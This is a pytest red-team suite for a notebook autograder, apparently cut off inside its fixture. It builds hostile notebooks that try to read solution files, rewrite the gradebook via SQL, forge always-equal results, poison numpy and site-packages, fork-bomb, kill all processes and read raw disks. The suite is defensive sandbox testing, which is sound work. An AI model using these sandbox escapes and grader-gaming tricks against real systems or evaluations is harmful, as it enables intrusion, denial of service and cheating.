"""Red team: hostile notebooks, graded through the real CLI in one batch with honest ones.

Each hostile notebook is the softmax stub with one cell appended that attacks the
grader: it reads or searches for the reference and the gradebook, writes where it
should not, leaves processes behind, exhausts resources, lies about what it returns,
talks to the network, pokes at /proc, or tries to poison the grader for the next
submission. A breach is made visible: an attack that gets what it wanted runs
`_breach()`, which defines the reference's functions and quiz answers (their text is
embedded in the notebook for exactly this), so a breach scores far above 0.

One mixed batch (hostile notebooks, the sample notebooks alice, bob and carol, and
copies of them graded right after the notebooks that try to poison or kill the
grader) and one batch of the honest notebooks alone run once per module; the tests
then check, attack by attack, that the hostile notebook scored 0, that it really ran
its attack, that nothing it aimed at outside its scratch folder exists or changed,
that no process it started is alive, that the gradebook is intact and that every
honest notebook scored exactly what it scores alone.
"""

from __future__ import annotations

import ctypes
import hashlib
import json
import os
import re
import shutil
import site
import socket
import sqlite3
import struct
import subprocess
import sys
import time
import uuid
from pathlib import Path

import nbformat
import numpy
import pytest

REPO = Path(__file__).resolve().parent.parent
STUB = REPO / "assignments" / "03_softmax" / "softmax.ipynb"
SAMPLES = REPO / "solutions" / "03_softmax" / "samples"
HONEST = ("alice", "bob", "carol")  # 100, partial, 0
NOTEBOOK_TIMEOUT = 8
TOKEN = f"redteam{uuid.uuid4().hex[:12]}"  # in every path and process name an attack creates
SLEEP_BASE = f"{os.getpid() % 100000}{int(time.time()) % 1000:03d}"  # `sleep 86399.<this><attack number>`
HOME = Path.home()  # the real one: the child's HOME is its scratch folder
SITE_PACKAGES = Path(site.getsitepackages()[0])
NUMPY_DIR = Path(numpy.__file__).parent
USER_SITE = Path(site.getusersitepackages())
LOG_CHARS = 64 * 1024
IPC_KEY = int(TOKEN[-7:], 16)  # System V IPC keys of the sysv_ipc_left_behind attack: this and the next two

# --- what every hostile cell starts and ends with --------------------------------------------

PRELUDE = '''import os, sys
import numpy as np
_REFERENCE = @REFERENCE@

def _breach(why):
    """The payoff of an attack that worked: the reference's functions and the right quiz answers."""
    print("REDTEAM-BREACH", why, flush=True)
    loot = {}
    exec(_REFERENCE, loot)
    globals().update({name: value for name, value in loot.items() if not name.startswith("__")})
    globals()["ANSWERS"] = dict(loot["QUIZ_ANSWERS"])

def _steal(path):
    """Read `path`; a breach if that worked."""
    try:
        with open(path, "rb") as handle:
            handle.read(1 << 20)
    except OSError as error:
        print("denied", path, type(error).__name__, error.errno, flush=True)
        return False
    _breach("read " + path)
    return True

def _create(path, what="file"):
    """Make a new file or folder at `path` (never overwriting); a breach if that worked."""
    try:
        if what == "dir":
            os.mkdir(path)
        else:
            with open(path, "x") as handle:
                handle.write("print('@TOKEN@')\\n")
    except OSError as error:
        print("denied", path, type(error).__name__, error.errno, flush=True)
        return False
    _breach("created " + path)
    return True

print("REDTEAM-START @NAME@ scratch=" + os.getcwd(), flush=True)
'''
EPILOGUE = '\nprint("REDTEAM-END @NAME@", flush=True)\n'

# Functions that answer with wrong values of the right kind: garbage that scores 0.
GARBAGE = '''
def softmax(z, axis=-1):
    return np.full(np.shape(z), 0.3)

def log_softmax(z, axis=-1):
    return np.full(np.shape(z), -0.3)

def softmax_jacobian(z):
    return np.eye(len(z))

def cross_entropy(logits, labels):
    return 42.0

def cross_entropy_grad(logits, labels):
    return np.ones(np.shape(logits))

ANSWERS = {"q1": 0.5, "q2": "A", "q3": 0.25, "q4": "A"}
'''

# --- the attacks: name -> the body of the appended cell -----------------------------------------

ATTACKS: dict[str, str] = {}

ATTACKS["read_solutions_by_path"] = '''
for path in ("@REPO@/solutions/03_softmax/reference.py", "@REPO@/solutions/03_softmax/test_softmax.py",
             "@COURSE@/solutions/03_softmax/reference.py", "@COURSE@/solutions/03_softmax/test_softmax.py",
             "@COURSE@/solutions/03_softmax/assignment.toml"):
    _steal(path)
try:
    print("listing", os.listdir("@COURSE@/solutions/03_softmax"))
    _breach("listed the solutions folder")
except OSError as error:
    print("denied listing", error.errno)
'''

ATTACKS["search_for_reference"] = '''
import glob, time
found = []
for pattern in ("/tmp/**/reference.py", "/work/**/reference.py", "@HOME@/**/reference.py", "/**/test_softmax.py",
                "/tmp/**/solutions", "/work/**/solutions"):
    found += glob.glob(pattern, recursive=True)
deadline = time.monotonic() + 3
for top in ("/", "/tmp", "/work", "@HOME@", "/var", "/opt", "/srv", "/mnt"):
    for folder, subfolders, files in os.walk(top):
        subfolders[:] = [name for name in subfolders if os.path.join(folder, name) not in ("/proc", "/sys", "/dev")]
        found += [os.path.join(folder, name) for name in files if name in ("reference.py", "test_softmax.py")]
        if time.monotonic() > deadline:
            break
print("found", len(found), found[:20])
for path in found:
    try:
        text = open(path).read()
    except (OSError, UnicodeDecodeError):
        continue
    if "QUIZ_ANSWERS" in text or "def test_softmax" in text:
        _breach("found " + path)
'''

ATTACKS["read_gradebook"] = '''
import sqlite3
for path in ("@DB@", "@DB@-wal", "@DB@-shm", "@REPO@/db/gradebook.sqlite"):
    if _steal(path):
        break
try:
    connection = sqlite3.connect("file:@DB@?mode=ro", uri=True, timeout=1)
    print(connection.execute("select count(*) from gradings").fetchall())
    _breach("queried the gradebook")
except Exception as error:
    print("denied sqlite", type(error).__name__, error)
'''

ATTACKS["write_gradebook_sql"] = '''
import sqlite3
try:
    connection = sqlite3.connect("@DB@", timeout=1)
    connection.execute("update gradings set score = max_score")
    connection.execute("update test_results set score = max_score, status = 'passed'")
    connection.execute("create table redteam (x)")
    connection.commit()
    _breach("updated the gradebook")
except Exception as error:
    print("denied sqlite", type(error).__name__, error)
'''

ATTACKS["write_gradebook_raw"] = '''
for path in ("@DB@", "@DB@-wal", "@DB@-shm", "@DB@-journal"):
    try:
        with open(path, "ab") as handle:
            handle.write(b"\\0REDTEAM" * 4096)
        _breach("appended to " + path)
    except OSError as error:
        print("denied", path, error.errno)
try:
    os.truncate("@DB@", 0)
    _breach("truncated the gradebook")
except OSError as error:
    print("denied truncate", error.errno)
'''

ATTACKS["patch_numpy_and_builtins"] = GARBAGE + '''
import builtins, numpy, numpy.testing, torch
numpy.allclose = lambda *args, **kwargs: True
numpy.isclose = lambda a, b, *args, **kwargs: numpy.ones(numpy.broadcast(a, b).shape, bool)
numpy.isfinite = lambda x, *args, **kwargs: numpy.ones(numpy.shape(x), bool)
numpy.testing.assert_allclose = lambda *args, **kwargs: None
numpy.abs = numpy.absolute = lambda x, *args, **kwargs: numpy.zeros(numpy.shape(x))
builtins.abs = lambda x: 0
builtins.round = lambda x, *args: 0
torch.softmax = lambda t, dim=-1: torch.full_like(t, 0.5)
torch.allclose = lambda *args, **kwargs: True
'''

ATTACKS["exit_inside_graded_functions"] = '''
import signal

def softmax(z, axis=-1):
    sys.exit(0)

def log_softmax(z, axis=-1):
    os._exit(0)

def softmax_jacobian(z):
    raise SystemExit(1)

def cross_entropy(logits, labels):
    os.kill(os.getpid(), signal.SIGKILL)
    os._exit(9)

def cross_entropy_grad(logits, labels):
    raise KeyboardInterrupt
'''

ATTACKS["walk_frames_and_gc"] = '''
import gc, inspect

def _loot(z):
    """Any array in reach that looks like softmax(z): the grader's expected values, if they were here."""
    z = np.asarray(z, dtype=float)
    candidates = []
    frame = sys._getframe()
    while frame is not None:
        candidates += list(frame.f_locals.values()) + list(frame.f_globals.values())
        frame = frame.f_back
    for info in inspect.stack(0):
        candidates += list(info.frame.f_locals.values())
    candidates += gc.get_objects()
    for value in candidates:
        if type(value) is np.ndarray and value.shape == z.shape and value.dtype.kind == "f" and value is not z:
            if np.all(value > 0) and np.ptp(value) > 0 and np.allclose(np.sum(value, axis=-1), 1):
                print("REDTEAM-BREACH found an array that sums to 1", flush=True)
                return value
    print("nothing found among", len(candidates), "objects", flush=True)
    return np.full(z.shape, 0.3)  # garbage that no sum along an axis turns into 1

def softmax(z, axis=-1):
    return _loot(z)

def log_softmax(z, axis=-1):
    return np.log(_loot(z)) - 1

def softmax_jacobian(z):
    return np.outer(_loot(z), _loot(z))

def cross_entropy(logits, labels):
    return float(np.sum(_loot(logits)))

def cross_entropy_grad(logits, labels):
    return _loot(logits) - 1

for value in gc.get_objects():
    if type(value) is dict and value.get("q2") in ("A", "B", "C", "D") and value.get("q1") is not None:
        print("REDTEAM-BREACH found quiz answers", flush=True)
        ANSWERS = dict(value)
'''

ATTACKS["pickle_with_malicious_reduce"] = '''
import io

class Evil:
    def __reduce__(self):  # whoever unpickles it runs io.open(...) and creates the file
        return (io.open, ("@PWNED@", "w"))

class EvilArray(np.ndarray):
    def __reduce__(self):
        return (io.open, ("@PWNED@", "w"))

def _forge_reply():
    """Write a reply straight onto the grader's socket: a .npy that holds a pickle."""
    frame = sys._getframe()
    while frame is not None and "sock" not in frame.f_locals:
        frame = frame.f_back
    sock = frame.f_locals["sock"]
    import json, struct
    buffer = io.BytesIO()
    np.save(buffer, np.array([Evil(), 1], dtype=object), allow_pickle=True)
    header = json.dumps({"ok": True, "value": {"t": "ndarray", "i": 0}, "blobs": 1}).encode()
    blob = buffer.getvalue()
    sock.sendall(struct.pack("!Q", len(header)) + header + struct.pack("!Q", len(blob)) + blob)
    print("forged a pickled reply", flush=True)

def softmax(z, axis=-1):
    return Evil()

def log_softmax(z, axis=-1):
    return np.array([Evil(), Evil()], dtype=object)

def softmax_jacobian(z):
    return {"J": Evil()}

def cross_entropy(logits, labels):
    return np.zeros(3).view(EvilArray)

def cross_entropy_grad(logits, labels):
    _forge_reply()
    return [Evil(), 1.0]

ANSWERS = {"q1": Evil(), "q2": Evil(), "q3": Evil(), "q4": Evil()}
'''

ATTACKS["lying_ndarray_subclasses"] = '''
class Liar(np.ndarray):
    __class__ = property(lambda self: np.ndarray)  # isinstance() believes it is a plain array
    def __eq__(self, other): return np.ones(self.shape, bool)
    def __ne__(self, other): return np.zeros(self.shape, bool)
    def __sub__(self, other): return np.zeros(self.shape)
    __rsub__ = __sub__
    def __abs__(self): return np.zeros(self.shape)
    def __array__(self, *args, **kwargs): return np.zeros(self.shape)
    def __float__(self): return 0.0
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.zeros(self.shape, bool) if ufunc in (np.isnan, np.isinf) else np.zeros(self.shape)

class FakeScalar(np.float64):  # claims to be NumPy's own
    __module__ = "numpy"
    def __eq__(self, other): return True
    def __float__(self): return 0.0

class Tensor:  # claims to be torch.Tensor
    __module__ = "torch"
    dtype, device, layout = "float64", "cpu", "strided"
    def __init__(self, shape): self.shape = shape
    def detach(self): return self
    def to(self, *args, **kwargs): return self
    def resolve_conj(self): return self
    def resolve_neg(self): return self
    def contiguous(self): return self
    def numpy(self): return np.full(self.shape, 0.5).view(Liar)

def softmax(z, axis=-1):
    return np.full(np.shape(z), 0.5).view(Liar)

def log_softmax(z, axis=-1):
    return FakeScalar(0.0)

def softmax_jacobian(z):
    return Tensor((len(z), len(z)))

def cross_entropy(logits, labels):
    return FakeScalar(42.0)

def cross_entropy_grad(logits, labels):
    return Tensor(np.shape(logits))
'''

ATTACKS["always_equal_objects"] = '''
class AlwaysEqual:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __le__ = __ge__ = __lt__ = __gt__ = __eq__
    def __float__(self): return 0.0
    def __abs__(self): return 0
    def __sub__(self, other): return 0
    __rsub__ = __sub__
    def __len__(self): return 1
    def __getitem__(self, index): return self
    def __iter__(self): return iter([self])
    def __array__(self, *args, **kwargs): return np.zeros(1)

class EqualFloat(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = float.__hash__

class EqualDict(dict):
    def __eq__(self, other): return True
    def get(self, key, default=None): return AlwaysEqual()
    def __getitem__(self, key): return AlwaysEqual()
    __hash__ = None

def softmax(z, axis=-1):
    return AlwaysEqual()

def log_softmax(z, axis=-1):
    return EqualFloat(0.0)

def softmax_jacobian(z):
    return [AlwaysEqual()]

def cross_entropy(logits, labels):
    return EqualFloat(1.0)

def cross_entropy_grad(logits, labels):
    return (AlwaysEqual(),)

ANSWERS = EqualDict(q1=AlwaysEqual(), q2=AlwaysEqual(), q3=AlwaysEqual(), q4=AlwaysEqual())
'''

ATTACKS["tcp_to_a_listener"] = '''
import socket
for host in ("127.0.0.1", "localhost", "::ffff:127.0.0.1"):
    try:
        connection = socket.create_connection((host, @TCP_PORT@), timeout=1)
        connection.sendall(b"@TOKEN@")
        _breach("connected over TCP to " + host)
    except OSError as error:
        print("denied", host, type(error).__name__, error, flush=True)
'''

ATTACKS["udp_to_a_socket"] = '''
import socket
for attempt in range(3):
    try:
        sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        print("sent", sender.sendto(b"@TOKEN@", ("127.0.0.1", @UDP_PORT@)), flush=True)
    except OSError as error:
        print("denied", type(error).__name__, error, flush=True)
'''

ATTACKS["unix_socket_to_a_listener"] = '''
import socket
for family, address in ((socket.AF_UNIX, "@UNIX_SOCKET@"), (socket.AF_UNIX, "\\0@TOKEN@")):
    try:
        connection = socket.socket(family, socket.SOCK_STREAM)
        connection.settimeout(1)
        connection.connect(address)
        connection.sendall(b"@TOKEN@")
        _breach("connected to the unix socket " + repr(address))
    except OSError as error:
        print("denied", repr(address), type(error).__name__, error, flush=True)
'''

ATTACKS["write_tmp"] = '''
_create("/tmp/@TOKEN@-tmp")
_create("/tmp/@TOKEN@-tmpdir", "dir")
_create("/var/tmp/@TOKEN@-vartmp")
_create("/dev/shm/@TOKEN@-shm")
'''

ATTACKS["write_home"] = '''
_create("@HOME@/@TOKEN@-home")
_create("@HOME@/@TOKEN@-homedir", "dir")
_create("@HOME@/.ipython/profile_default/startup/99-@TOKEN@.py")
'''

ATTACKS["write_site_packages"] = '''
_create("@NUMPY_DIR@/@TOKEN@.py")
_create("@SITE_PACKAGES@/@TOKEN@", "dir")
import numpy
_create(os.path.join(os.path.dirname(numpy.__file__), "@TOKEN@-found.py"))
'''

ATTACKS["sitecustomize"] = '''
_create("@SITE_PACKAGES@/sitecustomize.py")
_create("@SITE_PACKAGES@/usercustomize.py")
_create("@SITE_PACKAGES@/@TOKEN@.pth")
_create("@USER_SITE@/usercustomize.py")
'''

ATTACKS["setsid_double_fork_daemon"] = '''
import signal
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        signal.signal(signal.SIGHUP, signal.SIG_IGN)
        try:
            os.execv("/bin/sleep", ["sleep", "@SLEEP@"])
        finally:
            os._exit(1)
    os._exit(0)
os.waitpid(pid, 0)
print("daemon started", flush=True)
'''

ATTACKS["fork_bomb"] = '''
started = 0
for _ in range(200):
    try:
        pid = os.fork()
    except OSError as error:
        print("fork refused", error, flush=True)
        break
    if pid == 0:
        try:
            os.execv("/bin/sleep", ["sleep", "@SLEEP@"])
        finally:
            os._exit(1)
    started += 1
print("started", started, "sleepers", flush=True)
'''

ATTACKS["memory_bomb"] = '''
try:
    huge = bytearray(16 << 30)
    _breach("allocated 16 GB")
except MemoryError:
    print("16 GB at once refused", flush=True)
held = []
try:
    while len(held) < 16:  # 16 x 1 GB: the address-space limit must stop it
        held.append(np.empty(1 << 27))
        held[-1][0] = 1.0
    _breach("allocated 16 GB in 1 GB pieces")
except MemoryError:
    print("refused after", len(held), "GB", flush=True)
del held

def softmax(z, axis=-1):
    return np.ones((16 << 30) // 8)[: np.size(z)].reshape(np.shape(z))
'''

ATTACKS["infinite_loop_ignoring_sigterm"] = '''
import signal
for name in ("SIGTERM", "SIGINT", "SIGHUP", "SIGQUIT", "SIGUSR1", "SIGUSR2", "SIGALRM", "SIGXCPU", "SIGPIPE"):
    signal.signal(getattr(signal, name), signal.SIG_IGN)
print("looping", flush=True)
while True:
    pass
'''

ATTACKS["gigabytes_of_output"] = '''
import time
line = "@TOKEN@ " + "x" * 1000 + "\\n"
start, written = time.monotonic(), 0
while time.monotonic() - start < 30:
    try:
        sys.stdout.write(line * 1024)
        os.write(2, (line * 64).encode())
        written += 1
    except OSError as error:
        break
'''

ATTACKS["fill_the_disk_in_scratch"] = '''
written = 0
chunk = b"\\0" * (1 << 20)
with open("fill.bin", "wb", buffering=0) as handle:
    while written < (1 << 30):
        try:
            handle.write(chunk)
        except OSError as error:
            print("stopped at", written >> 20, "MB:", error, flush=True)
            break
        written += len(chunk)
if written >= (1 << 30):
    _breach("wrote 1 GB into one file")
'''

ATTACKS["threads_left_running"] = '''
import threading

def spin():
    while True:
        pass

for index in range(3):
    threading.Thread(target=spin, name=f"spin{index}", daemon=False).start()
print("threads", threading.active_count(), flush=True)
'''

ATTACKS["symlink_from_scratch"] = '''
for name, target in (("repo_solutions", "@REPO@/solutions"), ("course_solutions", "@COURSE@/solutions"),
                     ("root", "/")):
    os.symlink(target, name)
    print("linked", name, "->", target, flush=True)
    _steal(name + "/03_softmax/reference.py" if name != "root" else "root@COURSE@/solutions/03_softmax/reference.py")
try:
    os.link("@COURSE@/solutions/03_softmax/reference.py", "hard.py")
    _steal("hard.py")
except OSError as error:
    print("denied hard link", error.errno, flush=True)
try:
    folder = os.open("@COURSE@/solutions/03_softmax", os.O_PATH)
    print("O_PATH descriptor", folder, flush=True)
    _steal(f"/proc/self/fd/{folder}/reference.py")
    os.close(os.open("reference.py", os.O_RDONLY, dir_fd=folder))
    _breach("opened the reference through an O_PATH descriptor")
except OSError as error:
    print("denied O_PATH", error.errno, flush=True)
'''

ATTACKS["proc_tricks"] = '''
import glob, re
print("ppid", os.getppid(), "pid", os.getpid(), flush=True)
me = os.readlink("/proc/self")  # our pid as /proc (the host's) numbers it
pids = [entry for entry in os.listdir("/proc") if entry.isdigit() and entry != me]
paths, readable = set(), {}
for pid in pids:
    try:
        arguments = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
        readable["cmdline"] = readable.get("cmdline", 0) + 1
        for argument in arguments:
            text = argument.decode(errors="replace").removeprefix("sqlite:///")
            if text.startswith("/") and ("sqlite" in text or "solution" in text or "course" in text or "ipynb" in text):
                paths.add(text)
    except OSError:
        pass
    for leaf in ("environ", "mem", "maps", "stack", "syscall", "cwd/solutions/03_softmax/reference.py",
                 "root@COURSE@/solutions/03_softmax/reference.py"):
        try:
            with open(f"/proc/{pid}/{leaf}", "rb") as handle:
                data = handle.read(1 << 16)
            readable[leaf] = readable.get(leaf, 0) + 1
            if leaf == "environ" and b"AUTOGRADER" in data:
                _breach(f"read the environment of {pid}")
            elif leaf.endswith("reference.py") or leaf == "mem":
                _breach(f"read /proc/{pid}/{leaf}")
        except OSError:
            pass
    try:
        for fd in os.listdir(f"/proc/{pid}/fd"):
            try:
                os.close(os.open(f"/proc/{pid}/fd/{fd}", os.O_RDONLY))
                _breach(f"opened /proc/{pid}/fd/{fd}")
            except OSError:
                pass
    except OSError:
        pass
print("readable", readable, "paths seen in command lines", sorted(paths), flush=True)
for path in sorted(paths) + ["/proc/1/root@COURSE@/solutions/03_softmax/reference.py",
                             "/proc/self/root@COURSE@/solutions/03_softmax/reference.py"]:
    _steal(path)
    for guess in glob.glob(path.rsplit("/", 1)[0] + "/**/reference.py", recursive=True):
        _steal(guess)
'''

ATTACKS["poison_the_worker"] = GARBAGE + '''
import builtins, signal, numpy, torch
real_exp = numpy.exp
numpy.exp = lambda x, *args, **kwargs: real_exp(x, *args, **kwargs) * 0 + 0.5
numpy.max = numpy.amax = lambda *args, **kwargs: 0.0
numpy.asarray = lambda x, *args, **kwargs: numpy.array([0.5])
torch.softmax = lambda *args, **kwargs: None
sys.modules["numpy.linalg"] = None
os.environ.update(OMP_NUM_THREADS="64", PYTHONPATH="/tmp/@TOKEN@", LD_PRELOAD="/tmp/@TOKEN@.so",
                  MPLBACKEND="@TOKEN@", HOME="/tmp/@TOKEN@")
for folder in ("@NUMPY_DIR@", "@SITE_PACKAGES@", os.environ.get("MPLCONFIGDIR", "@HOME@")):
    _create(folder + "/@TOKEN@-poison.py")
_create("@SITE_PACKAGES@/@TOKEN@-poison.pth")
import matplotlib
_create(os.path.join(matplotlib.get_configdir(), "matplotlibrc"))
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            os.execv("/bin/sleep", ["sleep", "@SLEEP@"])
        finally:
            os._exit(1)
    os._exit(0)
os.waitpid(pid, 0)
'''

ATTACKS["kill_the_grader"] = '''
import signal
sent = 0
for entry in os.listdir("/proc"):
    if entry.isdigit() and int(entry) != os.getpid():
        try:
            os.kill(int(entry), signal.SIGKILL)
            sent += 1
        except OSError:
            pass
        try:
            os.killpg(os.getpgid(int(entry)), signal.SIGKILL)
        except OSError:
            pass
for target in (os.getppid(), -1, 0):
    try:
        if target:
            os.kill(target, signal.SIGKILL)
    except OSError as error:
        print("denied kill", target, error, flush=True)
print("signals delivered", sent, flush=True)
'''

ATTACKS["raw_disk_through_mknod"] = '''
import stat
device = os.stat("/").st_dev  # the root file system's disk
try:
    os.mknod("disk", 0o600 | stat.S_IFBLK, device)
    with open("disk", "rb") as handle:
        print("read", len(handle.read(1 << 20)), "bytes of the raw disk", flush=True)
    _breach("read the raw disk")
except OSError as error:
    print("denied block device", error.errno, flush=True)
try:
    os.mknod("mem", 0o600 | stat.S_IFCHR, os.makedev(1, 1))
    with open("mem", "rb") as handle:
        handle.read(16)
    _breach("read /dev/mem")
except OSError as error:
    print("denied /dev/mem", error.errno, flush=True)
'''

ATTACKS["open_by_file_handle"] = '''
import ctypes, struct
libc = ctypes.CDLL(None, use_errno=True)
kind, raw = @HANDLE@
handle = ctypes.create_string_buffer(struct.pack("Ii", len(raw), kind) + raw)
mount = os.open(".", os.O_RDONLY)  # scratch: the same file system as the course
fd = libc.open_by_handle_at(mount, handle, os.O_RDONLY)
if fd >= 0:
    print(os.read(fd, 100), flush=True)
    _breach("opened the reference by its file handle")
else:
    print("denied open_by_handle_at", os.strerror(ctypes.get_errno()), flush=True)
'''

ATTACKS["change_the_hostname"] = '''
import ctypes, socket
libc = ctypes.CDLL(None, use_errno=True)
name = socket.gethostname().encode()  # the same name: a probe that changes nothing if it works
if libc.sethostname(name, len(name)) == 0:
    _breach("sethostname worked")
else:
    print("denied sethostname", os.strerror(ctypes.get_errno()), flush=True)
'''

ATTACKS["oversized_returns"] = '''
def softmax(z, axis=-1):
    return np.zeros((6000, 6000))  # 288 MB: over the 256 MB per-array limit

def log_softmax(z, axis=-1):
    nested = [0.0]
    for _ in range(100):
        nested = [nested]
    return nested

def softmax_jacobian(z):
    return 1 << 20000

def cross_entropy(logits, labels):
    return "x" * (2 << 20)

def cross_entropy_grad(logits, labels):
    return [np.zeros(1)] * 5000
'''

ATTACKS["sysv_ipc_left_behind"] = '''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
IPC_CREAT, IPC_EXCL = 0o1000, 0o2000
for call, arguments in (("shmget", (1 << 20,)), ("msgget", ()), ("semget", (1,))):
    key = @IPC_KEY@ + ("shmget", "msgget", "semget").index(call)
    made = getattr(libc, call)(key, *arguments, IPC_CREAT | IPC_EXCL | 0o666)
    print(call, made, os.strerror(ctypes.get_errno()) if made < 0 else "made (it must not outlive the run)", flush=True)
queue = libc.mq_open(b"/@TOKEN@", os.O_CREAT | os.O_RDWR, 0o666, None)
print("mq_open", queue, os.strerror(ctypes.get_errno()) if queue < 0 else "made", flush=True)
'''

# What each attack tries to create outside its scratch folder: none of it may exist afterwards.
TARGETS: dict[str, list[Path]] = {
    "write_tmp": [Path(f"/tmp/{TOKEN}-tmp"), Path(f"/tmp/{TOKEN}-tmpdir"), Path(f"/var/tmp/{TOKEN}-vartmp"),
                  Path(f"/dev/shm/{TOKEN}-shm")],
    "write_home": [HOME / f"{TOKEN}-home", HOME / f"{TOKEN}-homedir",
                   HOME / ".ipython" / "profile_default" / "startup" / f"99-{TOKEN}.py"],
    "write_site_packages": [NUMPY_DIR / f"{TOKEN}.py", SITE_PACKAGES / TOKEN, NUMPY_DIR / f"{TOKEN}-found.py"],
    "sitecustomize": [SITE_PACKAGES / f"{TOKEN}.pth"],  # and the *customize.py files: unchanged, below
    "poison_the_worker": [NUMPY_DIR / f"{TOKEN}-poison.py", SITE_PACKAGES / f"{TOKEN}-poison.py",
                          SITE_PACKAGES / f"{TOKEN}-poison.pth", Path(f"/tmp/{TOKEN}")],
}
CUSTOMIZE = [SITE_PACKAGES / "sitecustomize.py", SITE_PACKAGES / "usercustomize.py", USER_SITE / "usercustomize.py"]
SLEEPERS = ("setsid_double_fork_daemon", "fork_bomb", "poison_the_worker")
# Honest notebooks graded right after the ones that try to poison or kill the grader (sorted by name).
VICTIMS = {f"{attack}_then_{name}": name for attack in ("poison_the_worker", "kill_the_grader") for name in HONEST}
ALL_HONEST = {**{name: name for name in HONEST}, **VICTIMS}


def sleep_argument(attack: str) -> str:
    return f"86399.{SLEEP_BASE}{sorted(ATTACKS).index(attack):02d}"


def pwned_path() -> Path:
    return Path(f"/tmp/pwned-{TOKEN}")


def file_handle(path: Path) -> tuple[int, bytes]:
    """name_to_handle_at(path), computed here so that the notebook can try to open it by handle.

    A file system without handles gets a made-up one: open_by_handle_at must be refused anyway.
    """
    libc = ctypes.CDLL(None, use_errno=True)
    buffer = ctypes.create_string_buffer(8 + 128)
    struct.pack_into("I", buffer, 0, 128)
    mount_id = ctypes.c_int()
    if libc.name_to_handle_at(-100, str(path).encode(), buffer, ctypes.byref(mount_id), 0):
        return 1, bytes(8)
    size, kind = struct.unpack_from("Ii", buffer, 0)
    return kind, buffer.raw[8:8 + size]


def hostile_notebook(path: Path, attack: str, values: dict[str, str]) -> Path:
    """The stub with the attack appended as one code cell, its placeholders filled in."""
    source = PRELUDE + ATTACKS[attack] + EPILOGUE
    for key, value in {**values, "NAME": attack, "SLEEP": sleep_argument(attack)}.items():
        source = source.replace(f"@{key}@", value)
    assert not re.search(r"@[A-Z_]+@", source), f"{attack}: a placeholder left unfilled"
    notebook = nbformat.read(STUB, as_version=4)
    notebook.cells.append(nbformat.v4.new_code_cell(source))
    nbformat.write(notebook, path)
    return path


# --- running the CLI ------------------------------------------------------------------------------

def autograder(course: Path, *args: str) -> subprocess.CompletedProcess:
    environment = {key: value for key, value in os.environ.items() if not key.startswith("AUTOGRADER_")}
    environment["AUTOGRADER_COURSE"] = str(course)
    return subprocess.run([sys.executable, "-m", "autograder", *args], capture_output=True, text=True,
                          cwd=course, env=environment, timeout=600)


def grade(course: Path, folder: Path, db: Path) -> subprocess.CompletedProcess:
    return autograder(course, "grade", "softmax", str(folder), "--db", f"sqlite:///{db}", "--workers", "2",
                      "--timeout", str(NOTEBOOK_TIMEOUT))


def exported(course: Path, db: Path) -> dict[str, dict]:
    result = autograder(course, "export", "softmax", "--format", "json", "--db", f"sqlite:///{db}")
    assert result.returncode == 0, result.stderr
    return {entry["student"]: entry for entry in json.loads(result.stdout)["students"]}


def logs(db: Path) -> dict[str, str]:
    """What each notebook printed, as the gradebook kept it."""
    with sqlite3.connect(db) as connection:
        return dict(connection.execute(
            "select st.name, g.log from gradings g join submissions s on g.submission_id = s.id "
            "join students st on s.student_id = st.id"))


def tree_digest(root: Path) -> dict[str, str]:
    """Every file under `root` (caches aside) and a digest of its content."""
    if not root.exists():
        return {}
    return {str(path.relative_to(root)): hashlib.sha256(path.read_bytes()).hexdigest()
            for path in sorted(root.rglob("*")) if path.is_file() and "__pycache__" not in path.parts}


def state_of(path: Path) -> str | None:
    return hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() else None


def processes_with(text: str) -> list[int]:
    """Live processes whose command line contains `text`."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if text.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                pass
    return found


def files_with_token() -> list[Path]:
    """Anything named after this run's token in the places the attacks aimed at."""
    places = [Path("/tmp"), Path("/var/tmp"), Path("/dev/shm"), HOME, SITE_PACKAGES, NUMPY_DIR, USER_SITE,
              HOME / ".ipython" / "profile_default" / "startup"]
    return [path for place in places if place.is_dir() for path in place.iterdir() if TOKEN in path.name]


@pytest.fixture(scope="module")
def batches(course, tmp_path_factory):
    """Grade the mixed batch (hostile and honest) and the honest notebooks alone; record what changed."""
    root = tmp_path_factory.mktemp("redteam")
    mixed, alone = root / "mixed", root / "alone"
    mixed.mkdir()
    alone.mkdir()
    db = root / "mixed.sqlite"
    tcp = socket.create_server(("127.0.0.1", 0))
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    unix.bind(str(root / "listener.sock"))
    unix.listen()
    values = {"TOKEN": TOKEN, "REPO": str(REPO), "COURSE": str(course), "DB": str(db), "HOME": str(HOME),
              "SITE_PACKAGES": str(SITE_PACKAGES), "NUMPY_DIR": str(NUMPY_DIR), "USER_SITE": str(USER_SITE),
              "PWNED": str(pwned_path()), "IPC_KEY": str(IPC_KEY), "TCP_PORT": str(tcp.getsockname()[1]),
              "UDP_PORT": str(udp.getsockname()[1]), "UNIX_SOCKET": str(root / "listener.sock"),
              "HANDLE": repr(file_handle(course / "solutions" / "03_softmax" / "reference.py")),
              "REFERENCE": repr((course / "solutions" / "03_softmax" / "reference.py").read_text())}
    for attack in ATTACKS:
        hostile_notebook(mixed / f"{attack}.ipynb", attack, values)
    for student, sample in ALL_HONEST.items():
        shutil.copy(SAMPLES / f"{sample}.ipynb", mixed / f"{student}.ipynb")
    for name in HONEST:
        shutil.copy(SAMPLES / f"{name}.ipynb", alone / f"{name}.ipynb")
    watched = {"course": course, "repo solutions": REPO / "solutions", "submissions": mixed}
    before = {name: tree_digest(path) for name, path in watched.items()}
    customize_before = {path: state_of(path) for path in CUSTOMIZE}
    try:
        run = grade(course, mixed, db)
        honest_run = grade(course, alone, root / "alone.sqlite")
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline and processes_with(f"86399.{SLEEP_BASE}"):
            time.sleep(0.1)  # processes of a killed namespace take a moment to go
